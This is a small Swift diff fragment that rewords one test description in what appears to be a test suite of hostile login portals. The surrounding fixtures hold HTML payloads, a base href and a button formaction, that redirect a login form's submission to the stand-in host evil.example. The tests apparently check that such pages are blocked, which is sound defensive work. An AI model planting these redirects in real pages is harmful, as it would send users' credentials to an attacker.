@@ -44,7 +44,7 @@ extension HostilePortal {
             html: "<base href='//evil.example/'>" + login("login")
         ),
         .init(
-            "A button with a target of its own",
+            "A button with its own target",
             "stopped recipe-host",
             html: login("/", "<button formaction=//evil.example/>Go</button>").replacing(
                 "<input type=submit>",
